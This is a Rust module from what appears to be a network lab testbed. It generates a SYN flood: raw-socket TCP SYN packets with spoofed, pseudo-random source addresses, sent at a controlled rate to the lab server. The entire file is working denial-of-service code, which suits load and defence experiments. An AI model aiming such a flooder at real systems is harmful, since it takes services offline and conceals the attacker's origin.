//! The attacker: SYNs of invented sources from a raw socket, at a rate.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};

use crate::lab::{Place, SERVER_ADDRESS};
use crate::load::CONNECTION_PORTS;
use crate::process::spawn_in;

/// SYNs between two looks at the clock.
const BURST: u64 = 64;
const PAUSE: Duration = Duration::from_micros(500);

/// Sends so many SYNs a second until told to stop; the thread returns how many it were a second.
pub(super) fn begin(
    place: &Place,
    rate: f64,
    stop: &Arc<AtomicBool>,
) -> JoinHandle<anyhow::Result<f64>> {
    let stop = Arc::clone(stop);
    spawn_in(&place.client, move || {
        let socket = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))
            .context("the attacker cannot open a raw socket")?;
        let server: Ipv4Addr = SERVER_ADDRESS.parse()?;
        let to = SocketAddrV4::new(server, 0);
        let (start, mut sent) = (Instant::now(), 0_u64);
        while !stop.load(Ordering::Acquire) {
            let due = (start.elapsed().as_secs_f64() * rate) as u64;
            if sent >= due {
                std::thread::sleep(PAUSE);
            }
            let burst = due.saturating_sub(sent).min(BURST);
            for number in sent..sent + burst {
                match sendto(&socket, &syn(server, number), SendFlags::empty(), &to) {
                    // A queue that is full is full of the flood.
                    Ok(_) | Err(Errno::NOBUFS | Errno::AGAIN) => {}
                    Err(error) => return Err(error).context("the attacker cannot send"),
                }
            }
            sent += burst;
        }
        Ok(sent as f64 / start.elapsed().as_secs_f64())
    })
}

/// The SYN of this number, as Linux sends them. What looks random follows from the number.
fn syn(server: Ipv4Addr, number: u64) -> Vec<u8> {
    const SYN: u8 = 2;
    let chance = scatter(number);
    let [_, b, c, d] = (chance as u32).to_be_bytes();
    let source = [20 + (chance >> 40) as u8 % 20, b, c, d];
    let mut segment = (1_024 + (chance >> 32) as u16 % 60_000).to_be_bytes().to_vec();
    segment.extend(CONNECTION_PORTS[number as usize % CONNECTION_PORTS.len()].to_be_bytes());
    segment.extend(((chance >> 20) as u32).to_be_bytes());
    segment.extend([0, 0, 0, 0, 0xa0, SYN, 0xfa, 0xf0, 0, 0, 0, 0]);
    // The largest segment; selective acknowledgements; timestamps; the window's scale.
    segment.extend([2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7]);
    let words = |bytes: &[u8]| -> u32 {
        bytes.chunks_exact(2).map(|two| u32::from(u16::from_be_bytes([two[0], two[1]]))).sum()
    };
    let mut sum = words(&source) + words(&server.octets()) + 6 + segment.len() as u32;
    sum += words(&segment);
    while sum > 0xffff {
        sum = (sum >> 16) + (sum & 0xffff);
    }
    segment[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    // The kernel fills in length and checksum.
    let mut packet = vec![0x45, 0, 0, 0, 0, 1, 0x40, 0, 64, 6, 0, 0];
    packet.extend(source);
    packet.extend(server.octets());
    packet.extend(segment);
    packet
}

/// SplitMix64 (G. Steele et al., 2014).
const fn scatter(number: u64) -> u64 {
    let mut word = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).wrapping_add(0x1234_5678_9abc_def1);
    word = (word ^ (word >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    word = (word ^ (word >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    word ^ (word >> 31)
}
